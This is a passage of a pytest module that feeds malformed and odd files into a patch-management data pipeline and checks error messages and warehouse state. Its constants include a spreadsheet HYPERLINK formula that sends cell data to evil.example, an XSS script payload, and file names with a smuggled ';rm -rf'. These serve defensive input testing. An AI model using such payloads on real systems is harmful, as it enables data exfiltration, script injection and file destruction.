"""Bad-input corpus: every source, each case with an explicit outcome (87 cases).

error       = the load fails with a message naming the file (and row / field where they apply);
              the warehouse keeps its last good state (content hash of the table unchanged).
              Direct: the loader inside `transaction(conn)`, as its thin asset does; asset: KEV,
              EPSS and MSRC through `dg.materialize` (good estate first, then the bad one).
loaded      = legal but odd data loads correctly (duplicates once, offsets to the exact UTC
              instant, payload text verbatim, odd file names recorded verbatim).
quarantined = the bad row goes to raw.quarantine (Log Analytics: at most 1 % of a file's rows),
              the valid rows load, the asset reports `quarantined_rows`.

| case | source | outcome |
|---|---|---|
| vm_truncated_json | az vm list JSON | error |
| vm_empty_file | az vm list JSON | error |
| vm_non_utf8 | az vm list JSON | error (byte offset) |
| vm_missing_id | az vm list JSON | error (row 2, field id) |
| vm_wrong_type_name | az vm list JSON | error (row 1, field name) |
| vm_conflicting_duplicate | az vm list JSON | error (row 1, field id) |
| vm_identical_duplicate | az vm list JSON | loaded (as received, 1 distinct id) |
| vm_script_payload_in_tag | az vm list JSON | loaded (verbatim) |
| pipeline_duplicated_vm_is_one_machine | az vm list JSON | loaded (1 inventory row) |
| arg_truncated_json | Resource Graph rows | error |
| arg_unknown_type | Resource Graph rows | error (row 2, field type) |
| arg_unknown_status_enum | Resource Graph rows | error (row 1, field properties.status) |
| arg_wrong_type_timestamp | Resource Graph rows | error (row 1, field properties.lastModifiedDateTime) |
| arg_install_unknown_state | Resource Graph rows | error (row 2, field properties.installationState) |
| arg_install_empty_file | Resource Graph rows | error |
| arg_install_non_utf8 | Resource Graph rows | error (byte offset) |
| arg_odd_file_name_and_huge_field | Resource Graph rows | loaded (5 MB patchName, odd name) |
| pipeline_late_out_of_order_file_with_offset | Resource Graph rows | loaded (exact UTC, newest wins) |
| op_unknown_operation | patch operation envelopes | error (row 1, field operation) |
| op_truncated_json | patch operation envelopes | error |
| op_result_wrong_type | patch operation envelopes | error (row 1, field result) |
| op_unknown_patch_state | patch operation envelopes | error (row 2, field result.patches[].installationState) |
| op_odd_file_name | patch operation envelopes | loaded |
| la_update_csv_missing_column | LA Update CSV | error |
| la_update_csv_non_utf8 | LA Update CSV | error (byte offset, line) |
| la_update_csv_empty_file | LA Update CSV | error |
| la_update_csv_ragged_row | LA Update CSV | error (row 3) |
| la_update_bad_value_majority | LA Update CSV | error (row 2, field Approved; > 1 % bad) |
| la_update_json_truncated | LA Update az JSON | error |
| la_update_csv_extra_column | LA Update CSV | loaded (extra column dropped) |
| la_update_odd_file_name | LA Update CSV (`Update;rm -rf.csv`) | loaded |
| la_update_csv_huge_title | LA Update CSV | loaded (5 MB title) |
| la_update_payload_text_verbatim | LA Update CSV | loaded (formula, script verbatim) |
| la_update_json_mixed_offsets | LA Update az JSON | loaded (exact UTC) |
| pipeline_duplicate_exports_counted_once | LA Update API body x2 | loaded (counted once) |
| la_update_csv_bad_datetime | LA Update CSV | quarantined (row 57, TimeGenerated) |
| la_update_json_unknown_state_via_asset | LA Update az JSON | quarantined (row 10, UpdateState; asset metadata) |
| la_summary_api_truncated | LA UpdateSummary API body | error |
| la_summary_api_wrong_type | LA UpdateSummary API body | error (row 1, field TotalUpdatesMissing) |
| la_summary_csv_out_of_order | LA UpdateSummary CSV (portal) | loaded (exact UTC) |
| la_summary_csv_missing_computer | LA UpdateSummary CSV | quarantined (row 3, Computer) |
| la_run_csv_unknown_status | LA UpdateRunProgress CSV | error (row 1, field InstallationStatus) |
| la_run_api_body_header_only | LA UpdateRunProgress API body | loaded (0 rows) |
| la_run_api_body_bad_bool | LA UpdateRunProgress API body | quarantined (row 10, SucceededOnRetry) |
| reg_asset_categories_unknown_enum | register asset_categories | error (row 2, field criticality) |
| reg_baselines_bad_date | register baselines | error (row 2, field effective_from) |
| reg_patch_tests_missing_column | register patch_tests | error (header) |
| reg_patch_tests_huge_field | register patch_tests | loaded (5 MB failure_reason) |
| reg_authorization_events_extra_column | register authorization_events | error (header, field notes) |
| reg_authorization_events_formula | register authorization_events | loaded (verbatim) |
| reg_exceptions_duplicate_id | register exceptions | error (row 2, field exception_id) |
| reg_exceptions_script | register exceptions | loaded (verbatim) |
| reg_support_incidents_non_utf8 | register support_incidents | error (row 1, byte offset) |
| reg_rollbacks_ragged_row | register rollbacks | error (row 1) |
| reg_rollbacks_mixed_offsets | register rollbacks | loaded (exact UTC) |
| reg_maintenance_windows_wrong_type | register maintenance_windows | error (row 2, field duration_minutes) |
| reg_blackout_dates_empty_file | register blackout_dates | error |
| kev_json_truncated | KEV JSON | error |
| kev_json_empty_file | KEV JSON | error |
| kev_json_wrong_type | KEV JSON | error |
| kev_json_count_mismatch | KEV JSON | error (field count) |
| kev_csv_missing_column | KEV CSV | error (header) |
| kev_csv_bad_date | KEV CSV | error (row 2, field dateAdded) |
| kev_csv_unknown_enum | KEV CSV | error (row 1, field knownRansomwareCampaignUse) |
| kev_csv_missing_cve | KEV CSV | error (row 2, field cveID) |
| kev_csv_non_utf8 | KEV CSV | error (byte offset) |
| kev_csv_conflicting_duplicate | KEV CSV | error (rows 1, 2, field cveID) |
| kev_csv_extra_column_and_duplicate | KEV CSV | loaded (one row) |
| kev_payload_text_and_odd_name | KEV CSV and JSON | loaded (verbatim) |
| epss_missing_column | EPSS CSV | error (header) |
| epss_wrong_type | EPSS CSV | error (row 2, field epss) |
| epss_out_of_range | EPSS CSV | error (row 1, field percentile) |
| epss_empty_file | EPSS CSV | error |
| epss_non_utf8 | EPSS CSV | error (byte offset) |
| epss_conflicting_duplicate | EPSS CSV | error (rows 1, 2, field cve) |
| epss_identical_duplicate_and_extra_column | EPSS CSV | loaded (one row) |
| epss_mixed_offset_score_date | EPSS CSV | loaded (UTC day) |
| msrc_json_truncated | MSRC CVRF JSON | error |
| msrc_empty_file | MSRC CVRF JSON | error |
| msrc_wrong_month_title | MSRC CVRF JSON | error |
| msrc_xml_truncated | MSRC CVRF XML | error |
| msrc_xml_non_utf8 | MSRC CVRF XML | error (line, column) |
| msrc_odd_name_payload_and_offset | MSRC CVRF JSON | loaded (verbatim, exact UTC) |
| msrc_xml_wrong_namespace | MSRC CVRF XML | error (element, namespace) |
| msrc_unknown_threat_enum | MSRC CVRF JSON | error (CVE, Threats[0].Type, value) |
| msrc_wrong_type_cvss | MSRC CVRF JSON | error (CVE, CVSSScoreSets[0].BaseScore, value) |
| msrc_duplicate_vulnerability | MSRC CVRF JSON | error (CVE listed twice) |
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path

import dagster as dg
import duckdb
import pytest
from fixtures_registers import write_register

from pipelines.ingest.azure import AzureResource
from pipelines.ingest.errors import SourceFileError
from pipelines.partitions import every_day
from pipelines.resources import RunSettings, WarehouseResource, connect_warehouse
from pipelines.sources import kev
from pipelines.sources.bulletins.resource import bulletin_resources
from pipelines.sources.compute.reader import load_virtual_machines
from pipelines.sources.epss import assets as epss_assets
from pipelines.sources.epss.reader import read_epss
from pipelines.sources.kev import assets as kev_assets
from pipelines.sources.kev.reader import read_kev
from pipelines.sources.log_analytics import assets as la_assets
from pipelines.sources.log_analytics.reader import load_log_analytics
from pipelines.sources.msrc import assets as msrc_assets
from pipelines.sources.msrc.parser import parse_file
from pipelines.sources.patch_operations.reader import load_patch_operations
from pipelines.sources.registers import REGISTERS
from pipelines.sources.registers.reader import RegisterValidationError, load_register
from pipelines.sources.resource_graph.reader import load_resource_graph
from pipelines.warehouse import transaction

VM = "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1"
FIVE_MB = "x" * (5 * 2**20)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(1)>"
ODD = "odd name ü;rm -rf"
LOAD_ERRORS = (SourceFileError, RegisterValidationError)


# ---------------------------------------------------------------- file builders


def write(estate: Path, rel: str, content: str | bytes) -> Path:
    path = estate / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


def dump(obj) -> str:
    return json.dumps(obj)


def vm_resource(**extra) -> dict:
    return {"id": VM, "name": "vm1", "vmId": "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee",
            "tags": {"role": "web"}, **extra}


def arg_assessment(modified="2024-03-05T02:00:00Z", patch_name="2024-01 Security Update KB5034439",
                   status="Succeeded", child_type=None) -> dict:
    parent = {"id": f"{VM}/patchAssessmentResults/latest", "name": "latest",
              "type": "microsoft.compute/virtualmachines/patchassessmentresults",
              "properties": {"status": status, "assessmentActivityId": "a1", "rebootPending": False,
                             "lastModifiedDateTime": modified, "osType": "Windows"}}
    child = {"id": f"{VM}/patchAssessmentResults/latest/softwarePatches/5034439", "name": "5034439",
             "type": child_type or "microsoft.compute/virtualmachines/patchassessmentresults/softwarepatches",
             "properties": {"patchName": patch_name, "kbId": "5034439", "classifications": ["Security"]}}
    return {"totalRecords": 2, "count": 2, "data": [parent, child]}


def arg_installation(state="Installed") -> list:
    return [
        {"id": f"{VM}/patchInstallationResults/i1", "name": "i1",
         "type": "microsoft.compute/virtualmachines/patchinstallationresults",
         "properties": {"status": "Succeeded", "installationActivityId": "i1", "rebootStatus": "NotNeeded",
                        "startDateTime": "2024-03-02T02:30:00Z", "lastModifiedDateTime": "2024-03-02T03:00:00Z"}},
        {"id": f"{VM}/patchInstallationResults/i1/softwarePatches/5034439", "name": "5034439",
         "type": "microsoft.compute/virtualmachines/patchinstallationresults/softwarepatches",
         "properties": {"patchName": "KB5034439", "kbId": "5034439", "installationState": state}},
    ]


def operation(op="installPatches", state="Installed", result=None) -> dict:
    body = {"status": "Succeeded", "installationActivityId": "op1", "rebootStatus": "NotNeeded",
            "startDateTime": "2024-03-09T04:00:00+00:00",
            "patches": [{"kbId": "5034439", "name": "KB5034439", "installationState": state}]}
    return {"resourceId": VM, "operation": op, "result": body if result is None else result}


LA_HEADER = ["TimeGenerated", "Computer", "KBID", "Title", "UpdateState", "Approved"]


def la_rows(n: int) -> list[list[str]]:
    return [["2024-03-08T10:00:00Z", f"host{i:04d}.contoso.com", "5034439", "KB5034439", "Needed", "true"]
            for i in range(n)]


def la_csv(rows, header=LA_HEADER) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def la_az_json(rows, header=LA_HEADER) -> str:
    return dump([{"TableName": "PrimaryResult", **dict(zip(header, r, strict=True))} for r in rows])


def la_api_body(rows, columns: list[tuple[str, str]]) -> str:
    return dump({"tables": [{"name": "PrimaryResult",
                             "columns": [{"name": n, "type": t} for n, t in columns], "rows": rows}]})


SUMMARY_COLUMNS = [("TimeGenerated", "datetime"), ("Computer", "string"),
                   ("TotalUpdatesMissing", "int"), ("RestartPending", "bool")]
RUN_COLUMNS = [("TimeGenerated", "datetime"), ("Computer", "string"), ("CorrelationId", "string"),
               ("KBID", "string"), ("InstallationStatus", "string"), ("SucceededOnRetry", "bool")]
RUN_HEADER = [n for n, _ in RUN_COLUMNS]


def run_rows(n: int) -> list[list]:
    return [["2024-03-04T01:00:00Z", f"host{i:04d}", "corr-1", "5035845", "Succeeded", "false"]
            for i in range(n)]


REGISTER_ROWS = {
    "asset_categories": {"category_id": "c1", "name": "Web", "criticality": "high", "rule_order": "10"},
    "baselines": {"baseline_id": "b1", "category_id": "c1", "requirement": "patch", "item": "5034439",
                  "effective_from": "2026-01-01"},
    "patch_tests": {"test_id": "t1", "patch_key": "5034439", "asset_category": "c1",
                    "environment": "test", "result": "passed", "tester": "alice"},
    "authorization_events": {"event_id": "e1", "patch_key": "5034439", "asset_category": "c1",
                             "environment": "production", "to_state": "proposed", "actor": "bob",
                             "actor_role": "requester", "occurred_at": "2026-10-01T00:00:00Z"},
    "exceptions": {"exception_id": "x1", "asset_category": "*", "reason": "legacy app",
                   "requested_by": "carol", "status": "active"},
    "support_incidents": {"incident_id": "i1", "source": "vendor", "opened_at": "2026-10-01T00:00:00Z"},
    "rollbacks": {"rollback_id": "r1", "vm_id": VM, "patch_key": "5034439",
                  "rolled_back_at": "2026-10-01T00:00:00Z"},
    "maintenance_windows": {"window_id": "w1", "rrule": "FREQ=WEEKLY;BYDAY=SA", "start_time": "02:00",
                            "duration_minutes": "120", "time_zone": "Europe/London", "ring": "2"},
    "blackout_dates": {"blackout_id": "bd1", "starts_on": "2026-12-20", "ends_on": "2027-01-02"},
}


def register(name: str, *rows: dict) -> Callable[[Path], object]:
    """A builder writing registers/<name>.csv: the good row, then `rows` merged onto it."""
    def build(estate: Path) -> None:
        write_register(estate, name, [REGISTER_ROWS[name], *({**REGISTER_ROWS[name], **r} for r in rows)])
    return build


def register_text(name: str, text: str | bytes) -> Callable[[Path], object]:
    return lambda estate: write(estate, f"registers/{name}.csv", text)


KEV_FIELDS = list(kev.CSV_COLUMNS)


def kev_entry(cve="CVE-2024-21412", **extra) -> dict:
    return {"cveID": cve, "vendorProject": "Microsoft", "product": "Windows",
            "vulnerabilityName": "Internet Shortcut Files Bypass", "dateAdded": "2024-02-13",
            "shortDescription": "bypass", "requiredAction": "apply updates", "dueDate": "2024-03-05",
            "knownRansomwareCampaignUse": "Unknown", "notes": "", "cwes": ["CWE-693"], **extra}


def kev_json(entries=None, count=None, version="2025.01.02") -> str:
    entries = [kev_entry()] if entries is None else entries
    return dump({"title": "CISA KEV", "catalogVersion": version, "dateReleased": "2025-01-02T17:04:19.9796Z",
                 "count": len(entries) if count is None else count, "vulnerabilities": entries})


def kev_csv(entries=None, fields=KEV_FIELDS, extra_column=False) -> str:
    entries = [kev_entry()] if entries is None else entries
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(fields + (["comment"] if extra_column else []))
    for e in entries:
        row = [", ".join(e[f]) if f == "cwes" else e[f] for f in fields]
        writer.writerow(row + (["extra"] if extra_column else []))
    return out.getvalue()


EPSS_COMMENT = "#model_version:v2025.03.14,score_date:2025-09-03T12:55:00Z\n"


def epss_text(lines: list[str], header="cve,epss,percentile", comment=EPSS_COMMENT) -> str:
    return comment + header + "\n" + "".join(line + "\n" for line in lines)


def msrc_doc(title="January 2024 Security Updates", current="2024-06-28T01:39:56", vulns=None,
             vuln_title="Internet Shortcut Files Bypass", threat_type=3, base_score=8.1) -> dict:
    vuln = {"CVE": "CVE-2024-21412", "Title": {"Value": vuln_title},
            "ProductStatuses": [{"ProductID": ["11923"], "Type": 3}],
            "Threats": [{"Type": threat_type, "ProductID": ["11923"], "Description": {"Value": "Important"}},
                        {"Type": 1, "Description": {"Value": "Publicly Disclosed:No;Exploited:Yes"}}],
            "CVSSScoreSets": [{"BaseScore": base_score, "TemporalScore": 7.1, "ProductID": ["11923"]}],
            "Remediations": [{"Type": 2, "Description": {"Value": "5034439"}, "ProductID": ["11923"],
                              "Supercedence": "5033118"}]}
    return {"DocumentTitle": {"Value": title},
            "DocumentTracking": {"Identification": {"ID": {"Value": "2024-Jan"}},
                                 "CurrentReleaseDate": current, "InitialReleaseDate": "2024-01-09T08:00:00"},
            "ProductTree": {"FullProductName": [{"ProductID": "11923", "Value": "Windows Server 2022"}]},
            "Vulnerability": [vuln] if vulns is None else vulns}


CVRF_NS = "http://www.icasi.org/CVRF/schema/cvrf/1.1"
VULN_NS = "http://www.icasi.org/CVRF/schema/vuln/1.1"


def msrc_xml(cvrf_ns=CVRF_NS, vuln_ns=VULN_NS) -> str:
    return (
        f'<?xml version="1.0" encoding="utf-8"?><cvrfdoc xmlns="{cvrf_ns}" xmlns:vuln="{vuln_ns}">'
        "<DocumentTitle>January 2024 Security Updates</DocumentTitle>"
        "<DocumentTracking><Identification><ID>2024-Jan</ID></Identification>"
        "<CurrentReleaseDate>2024-06-28T01:39:56</CurrentReleaseDate></DocumentTracking>"
        "<vuln:Vulnerability><vuln:Title>Bypass</vuln:Title><vuln:CVE>CVE-2024-21412</vuln:CVE>"
        '<vuln:ProductStatuses><vuln:Status Type="Known Affected"><vuln:ProductID>11923</vuln:ProductID>'
        "</vuln:Status></vuln:ProductStatuses></vuln:Vulnerability></cvrfdoc>"
    )


# ---------------------------------------------------------------- warehouse helpers


def table_hash(conn: duckdb.DuckDBPyConnection, table: str) -> tuple[int, str]:
    """Row count and an order-independent content hash of `table`."""
    return conn.execute(
        "SELECT count(*), md5(coalesce(string_agg(t::VARCHAR, chr(10) ORDER BY t::VARCHAR), '')) "
        f"FROM {table} AS t"
    ).fetchall()[0]


def failure_text(result: dg.ExecuteInProcessResult) -> str:
    """Every message of every step failure, causes included."""
    parts = []
    for event in result.all_events:
        if event.is_step_failure:
            error = event.step_failure_data.error
            while error is not None:
                parts.append(error.message)
                error = error.cause
    return "\n".join(parts)


def materialize(assets: list, database: Path, estate: Path, tags: dict | None = None) -> dg.ExecuteInProcessResult:
    """`tags`: the partitions of a run of day-partitioned assets (pipelines/partitions.py)."""
    return dg.materialize(
        assets,
        resources={**bulletin_resources(), "warehouse": WarehouseResource(database=str(database)),
                   "run_settings": RunSettings(estate_dir=str(estate)), "azure": AzureResource()},
        raise_on_error=False, tags=tags,
    )


# ---------------------------------------------------------------- sources: table, loader, good estate

LoadFn = Callable[[duckdb.DuckDBPyConnection, Path], object]


def _la(la_table: str, table: str) -> LoadFn:
    return lambda conn, estate: load_log_analytics(conn, estate, la_table, table, "run")


def _register_loader(name: str) -> LoadFn:
    return lambda conn, estate: load_register(conn, estate, name, "run")


DIRECT_SOURCES: dict[str, tuple[str, LoadFn, Callable[[Path], object]]] = {
    "vm": ("raw.virtual_machines",
           lambda c, e: load_virtual_machines(c, e, "raw.virtual_machines", "run"),
           lambda e: write(e, "azure/virtual_machines.json", dump([vm_resource()]))),
    "arg_assess": ("raw.patch_assessment_resources",
                   lambda c, e: load_resource_graph(
                       c, e, "patchassessmentresources", "raw.patch_assessment_resources", "run"),
                   lambda e: write(e, "azure/resource_graph/patchassessmentresources-1.json",
                                   dump(arg_assessment()))),
    "arg_install": ("raw.patch_installation_resources",
                    lambda c, e: load_resource_graph(
                        c, e, "patchinstallationresources", "raw.patch_installation_resources", "run"),
                    lambda e: write(e, "azure/resource_graph/patchinstallationresources-1.json",
                                    dump(arg_installation()))),
    "ops": ("raw.patch_operations",
            lambda c, e: load_patch_operations(c, e, "raw.patch_operations", "run"),
            lambda e: write(e, "azure/patch_operations/op1.json", dump(operation()))),
    "la_update": ("raw.la_update", _la("Update", "raw.la_update"),
                  lambda e: write(e, "log_analytics/Update.csv", la_csv(la_rows(3)))),
    "la_summary": ("raw.la_update_summary", _la("UpdateSummary", "raw.la_update_summary"),
                   lambda e: write(e, "log_analytics/UpdateSummary.json", la_api_body(
                       [["2024-03-02T05:00:00Z", "onprem01", 2, False]], SUMMARY_COLUMNS))),
    "la_run": ("raw.la_update_run_progress", _la("UpdateRunProgress", "raw.la_update_run_progress"),
               lambda e: write(e, "log_analytics/UpdateRunProgress.csv", la_csv(run_rows(2), RUN_HEADER))),
    **{f"reg_{name}": (f"staging.{name}", _register_loader(name), register(name)) for name in REGISTER_ROWS},
}

# ---------------------------------------------------------------- (a) errors: direct loaders

BAD_UTF8 = b"\xff\xfe"


def _vm(text: str | bytes):
    return lambda e: write(e, "azure/virtual_machines.json", text)


def _arg(table: str, text: str | bytes):
    return lambda e: write(e, f"azure/resource_graph/{table}-2.json", text)


def _op(text: str | bytes):
    return lambda e: write(e, "azure/patch_operations/op2.json", text)


def _la_file(name: str, text: str | bytes):
    return lambda e: write(e, f"log_analytics/{name}", text)


_UPDATE_ONE_BAD = [*la_rows(1), ["2024-03-08T10:00:00Z", "x", "1", "t", "Needed", "maybe"]]
_AUTH_COLUMNS = ",".join([*REGISTERS["authorization_events"].column_names, "notes"])
_INCIDENT_HEADER = b"incident_id,source,external_case_id,patch_key,vm_id,opened_at,closed_at,severity,summary\n"

ERROR_CASES: dict[str, tuple[str, Callable[[Path], object], str]] = {
    # case: (source, bad estate builder, expected message as a regex)
    "vm_truncated_json": ("vm", _vm(dump([vm_resource()])[:-20]),
                          r"azure/virtual_machines\.json: cannot be read: .*JSON"),
    "vm_empty_file": ("vm", _vm(""), r"azure/virtual_machines\.json: empty file"),
    "vm_non_utf8": ("vm", _vm(b'[{"id": "/x", "name": "caf' + BAD_UTF8 + b'"}]'),
                    r"azure/virtual_machines\.json: not UTF-8: byte 0xff at byte offset 26 \(line 1\)"),
    "vm_missing_id": ("vm", _vm(dump([vm_resource(), {"name": "vm2"}])),
                      r"azure/virtual_machines\.json: row 2, field id: missing: a VM needs an 'id'"),
    "vm_wrong_type_name": ("vm", _vm(dump([vm_resource(name=42)])),
                           r"virtual_machines\.json: row 1, field name: '42': must be a string"),
    "vm_conflicting_duplicate": ("vm", _vm(dump([vm_resource(), vm_resource(id=VM.lower(), location="x")])),
                                 r"virtual_machines\.json: row 1, field id: .*more than once with different content"),
    "arg_truncated_json": ("arg_assess", _arg("patchassessmentresources", dump(arg_assessment())[:-30]),
                           r"resource_graph/patchassessmentresources-2\.json: cannot be read"),
    "arg_unknown_type": (
        "arg_assess",
        _arg("patchassessmentresources", dump(arg_assessment(
            child_type="microsoft.compute/virtualmachines/patchassessmentresults/hotfixes"))),
        r"patchassessmentresources-2\.json: row 2, field type: '.*/hotfixes': not a patchassessmentresources type"),
    "arg_unknown_status_enum": (
        "arg_assess", _arg("patchassessmentresources", dump(arg_assessment(status="Sort of"))),
        r"patchassessmentresources-2\.json: row 1, field properties\.status: 'Sort of': must be one of"),
    "arg_wrong_type_timestamp": (
        "arg_assess", _arg("patchassessmentresources", dump(arg_assessment(modified="last tuesday"))),
        r"row 1, field properties\.lastModifiedDateTime: 'last tuesday': not an ISO 8601 timestamp"),
    "arg_install_unknown_state": (
        "arg_install", _arg("patchinstallationresources", dump(arg_installation(state="Kinda"))),
        r"patchinstallationresources-2\.json: row 2, field properties\.installationState: 'Kinda'"),
    "arg_install_empty_file": ("arg_install", _arg("patchinstallationresources", "  \n"),
                               r"patchinstallationresources-2\.json: empty file"),
    "arg_install_non_utf8": (
        "arg_install", _arg("patchinstallationresources", b'[\n{"id": "\xc3\x28"}]'),
        r"patchinstallationresources-2\.json: not UTF-8: byte 0xc3 at byte offset 10 \(line 2\)"),
    "op_unknown_operation": (
        "ops", _op(dump(operation(op="rebootVM"))),
        r"patch_operations/op2\.json: row 1, field operation: 'rebootVM': must be assessPatches or installPatches"),
    "op_truncated_json": ("ops", _op(dump(operation())[:25]), r"patch_operations/op2\.json: cannot be read"),
    "op_result_wrong_type": ("ops", _op(dump(operation(result="done"))),
                             r"op2\.json: row 1, field result: '\"done\"': must be the operation's result object"),
    "op_unknown_patch_state": ("ops", _op(dump([operation(), operation(state="Halfway")])),
                               r"op2\.json: row 2, field result\.patches\[\]\.installationState: 'Halfway'"),
    "la_update_csv_missing_column": (
        "la_update", _la_file("Update.csv", la_csv([r[:4] for r in la_rows(2)], LA_HEADER[:4])),
        r"log_analytics/Update\.csv: missing column\(s\) UpdateState"),
    "la_update_csv_non_utf8": (
        "la_update", _la_file("Update.csv", la_csv(la_rows(2)).encode() + b"2024-03-08T10:00:00Z,h\xe9,1,t,Needed,true\n"),
        r"log_analytics/Update\.csv: not UTF-8: byte 0xe9 at byte offset \d+ \(line 4\)"),
    "la_update_csv_empty_file": ("la_update", _la_file("Update.csv", b""), r"log_analytics/Update\.csv: empty file"),
    "la_update_csv_ragged_row": ("la_update", _la_file("Update.csv", la_csv(la_rows(2)) + "a,b,c,d,e,f,EXTRA\n"),
                                 r"log_analytics/Update\.csv: row 3: has 7 fields, the header has 6"),
    "la_update_json_truncated": ("la_update", _la_file("Update.json", la_az_json(la_rows(2))[:-10]),
                                 r"log_analytics/Update\.json: cannot be read"),
    "la_update_bad_value_majority": (
        "la_update", _la_file("Update.csv", la_csv(_UPDATE_ONE_BAD)),
        r"Update\.csv: row 2, field Approved: 'maybe' is not a valid bool \(1 of 2 rows bad"),
    "la_summary_api_truncated": (
        "la_summary", _la_file("UpdateSummary.json", la_api_body(
            [["2024-03-02T05:00:00Z", "h", 1, False]], SUMMARY_COLUMNS)[:-5]),
        r"log_analytics/UpdateSummary\.json: cannot be read"),
    "la_summary_api_wrong_type": (
        "la_summary", _la_file("UpdateSummary.json", la_api_body(
            [["2024-03-02T05:00:00Z", "h", "lots", False]], SUMMARY_COLUMNS)),
        r"UpdateSummary\.json: row 1, field TotalUpdatesMissing: 'lots' is not a valid int"),
    "la_run_csv_unknown_status": (
        "la_run", _la_file("UpdateRunProgress.csv", la_csv(
            [["2024-03-04T01:00:00Z", "h", "c", "1", "Exploded", "false"]], RUN_HEADER)),
        r"UpdateRunProgress\.csv: row 1, field InstallationStatus: 'Exploded' must be one of NotStarted/"),
    "reg_asset_categories_unknown_enum": (
        "reg_asset_categories", register("asset_categories", {"category_id": "c2", "criticality": "urgent"}),
        r"registers/asset_categories\.csv: row 2, field criticality: 'urgent': must be one of critical/high/medium/low"),
    "reg_baselines_bad_date": (
        "reg_baselines", register("baselines", {"effective_from": "01/02/2026"}),
        r"registers/baselines\.csv: row 2, field effective_from: '01/02/2026': not a date YYYY-MM-DD"),
    "reg_patch_tests_missing_column": (
        "reg_patch_tests", register_text("patch_tests", "test_id,patch_key\nt1,1\n"),
        r"registers/patch_tests\.csv: header, field asset_category: column missing from the header"),
    "reg_authorization_events_extra_column": (
        "reg_authorization_events", register_text("authorization_events", _AUTH_COLUMNS + "\n"),
        r"registers/authorization_events\.csv: header, field notes: unexpected column"),
    "reg_exceptions_duplicate_id": (
        "reg_exceptions", register("exceptions", {}),
        r"registers/exceptions\.csv: row 2, field exception_id: 'x1': duplicate id"),
    "reg_support_incidents_non_utf8": (
        "reg_support_incidents",
        register_text("support_incidents", _INCIDENT_HEADER + b"i1,vendor,,,,2026-10-01T00:00:00Z,,,caf\xe9\n"),
        r"registers/support_incidents\.csv: row 1: not UTF-8 \(invalid continuation byte: byte 0xe9 at byte offset 128\)"),
    "reg_rollbacks_ragged_row": (
        "reg_rollbacks", register_text(
            "rollbacks", "rollback_id,vm_id,patch_key,rolled_back_at,reason,incident_id,actor\nr1,vm,KB1\n"),
        r"registers/rollbacks\.csv: row 1: has 3 fields, the header has 7"),
    "reg_maintenance_windows_wrong_type": (
        "reg_maintenance_windows",
        register("maintenance_windows", {"window_id": "w2", "duration_minutes": "ninety"}),
        r"registers/maintenance_windows\.csv: row 2, field duration_minutes: 'ninety': not an integer"),
    "reg_blackout_dates_empty_file": ("reg_blackout_dates", register_text("blackout_dates", ""),
                                      r"registers/blackout_dates\.csv: header: empty file"),
}


@pytest.mark.parametrize("case", sorted(ERROR_CASES))
def test_error_keeps_last_good_state(tmp_path, case):
    source, build_bad, message = ERROR_CASES[case]
    table, load, build_good = DIRECT_SOURCES[source]
    good, bad = tmp_path / "good", tmp_path / "bad"
    build_good(good)
    build_bad(bad)
    conn = connect_warehouse(":memory:")
    try:
        with transaction(conn):  # as every asset writes
            load(conn, good)
        before = table_hash(conn, table)
        assert before[0] > 0
        with pytest.raises(LOAD_ERRORS) as raised, transaction(conn):
            load(conn, bad)
        assert re.search(message, str(raised.value)), str(raised.value)
        assert table_hash(conn, table) == before
    finally:
        conn.close()


# ---------------------------------------------------------------- (a) errors: through the assets


def _kev(name: str, text: str | bytes):
    return lambda e: write(e, f"bulletins/kev/{name}", text)


def _epss(text: str | bytes, name="epss_scores-2025-09-04.csv"):
    return lambda e: write(e, f"bulletins/epss/{name}", text)


def _msrc(text: str | bytes, name="2024-Jan.json"):
    return lambda e: write(e, f"bulletins/msrc/{name}", text)


ASSET_SOURCES = {
    "kev": ([kev_assets.kev_vulnerabilities], "raw.kev_vulnerabilities",
            _kev("known_exploited_vulnerabilities.json", kev_json(version="2025.01.01"))),
    "epss": ([epss_assets.epss_scores], "raw.epss_scores",
             _epss(epss_text(["CVE-2024-21412,0.94,0.99"]), "epss_scores-2025-09-03.csv")),
    "msrc": ([msrc_assets.msrc_documents], "raw.msrc_fixes",
             _msrc(dump(msrc_doc(current="2024-02-01T00:00:00")))),
}

ASSET_ERROR_CASES = {
    "kev_json_truncated": ("kev", _kev("kev.json", kev_json()[:-40]),
                           r"kev\.json: not a readable KEV catalog"),
    "kev_json_empty_file": ("kev", _kev("kev.json", ""), r"kev\.json: empty file"),
    "kev_json_wrong_type": ("kev", _kev("kev.json", kev_json().replace('"count": 1', '"count": "many"')),
                            r"kev\.json: not a readable KEV catalog (?s:.*)many"),
    "kev_json_count_mismatch": ("kev", _kev("kev.json", kev_json(count=7)),
                                r"kev\.json: field count: catalog says count=7 but lists 1"),
    "kev_csv_missing_column": (
        "kev", _kev("kev.csv", kev_csv(fields=KEV_FIELDS[:7])),
        r"kev\.csv: header: missing column\(s\) dueDate, knownRansomwareCampaignUse, notes, cwes"),
    "kev_csv_bad_date": (
        "kev", _kev("kev.csv", kev_csv([kev_entry(), kev_entry("CVE-2024-1000", dateAdded="13/02/2024")])),
        r"kev\.csv: row 2, field dateAdded: '13/02/2024': not a date YYYY-MM-DD"),
    "kev_csv_unknown_enum": (
        "kev", _kev("kev.csv", kev_csv([kev_entry(knownRansomwareCampaignUse="Maybe")])),
        r"kev\.csv: row 1, field knownRansomwareCampaignUse: 'Maybe': must be Known or Unknown"),
    "kev_csv_missing_cve": ("kev", _kev("kev.csv", kev_csv([kev_entry(), kev_entry(cve=" ")])),
                            r"kev\.csv: row 2, field cveID: ' ': a value is required"),
    "kev_csv_non_utf8": ("kev", _kev("kev.csv", kev_csv().encode().replace(b"bypass", b"by\x80pass")),
                         r"kev\.csv: not UTF-8: byte 0x80 at byte offset \d+ \(line 2\)"),
    "kev_csv_conflicting_duplicate": (
